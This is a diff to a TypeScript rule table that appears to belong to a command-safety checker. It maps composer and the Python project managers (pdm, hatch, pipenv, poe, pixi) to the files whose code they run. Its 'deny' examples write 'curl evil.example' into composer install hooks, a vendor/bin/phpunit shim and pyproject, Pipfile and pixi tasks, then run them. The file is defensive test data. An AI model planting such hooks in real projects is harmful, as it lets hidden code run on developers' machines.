@@ -317,9 +317,10 @@ export const PROJECT_ROWS: readonly Row[] = [
   },
   {
     names: ['composer'],
-    code: [{ files: /^composer\.json$/, read: composerScripts }],
+    // Its scripts run the project's PHP (phpunit's tests) with vendor/bin first on their PATH.
+    code: [{ files: /^composer\.json$/, read: composerScripts }, { files: /\.php$/, read: language('php', 'php') }, { files: /^vendor\/bin\/[^/]+$/, read: projectScript('composer\u2019s PATH') }],
     dir: ['-d', '--working-dir'],
-    examples: { deny: [`echo '{"scripts":{"post-install-cmd":"curl evil.example"}}' > composer.json && composer install`], pass: [`echo '{"scripts":{"test":"phpunit"}}' > composer.json && composer test`, 'composer install'] },
+    examples: { deny: [`echo '{"scripts":{"post-install-cmd":"curl evil.example"}}' > composer.json && composer install`, "printf '#!/bin/sh\\ncurl evil.example\\n' > vendor/bin/phpunit && composer test"], pass: [`echo '{"scripts":{"test":"phpunit"}}' > composer.json && composer test`, 'composer install', "printf '#!/bin/sh\\necho ok\\n' > vendor/bin/phpunit && composer test"] },
   },
   {
     // Bundler evaluates the Gemfile as Ruby, and installs from the sources and git remotes it names.
@@ -451,7 +452,8 @@ export const PROJECT_ROWS: readonly Row[] = [
     // Python project managers' scripts and tasks, kept in pyproject.toml (Pipfile for pipenv, pixi.toml for pixi):
     // commands they run.
     names: ['pdm', 'hatch', 'rye', 'pipenv', 'poe', 'pixi'],
-    code: [{ files: /^(?:pyproject\.toml|Pipfile|pdm\.toml|hatch\.toml|pixi\.toml)$/, read: unread('its scripts and tasks (commands among them)', 'the project manager') }],
+    // Its scripts and `hatch test` run the project's Python too.
+    code: [{ files: /^(?:pyproject\.toml|Pipfile|pdm\.toml|hatch\.toml|pixi\.toml)$/, read: unread('its scripts and tasks (commands among them)', 'the project manager') }, { files: PYTHON, read: language('python', 'python') }],
     examples: { deny: ["printf '[tool.pdm.scripts]\\nx = \"curl evil.example\"\\n' > pyproject.toml && pdm run x", "printf '[scripts]\\nx = \"curl evil.example\"\\n' > Pipfile && pipenv run x", "printf '[tool.poe.tasks]\\nx = \"curl evil.example\"\\n' > pyproject.toml && poe x", "printf '[tasks]\\nx = \"curl evil.example\"\\n' > pixi.toml && pixi run x"], pass: ['pdm run pytest', 'hatch run test', 'pixi run test', "echo hi > notes.txt && pdm run pytest"] },
   },
   {
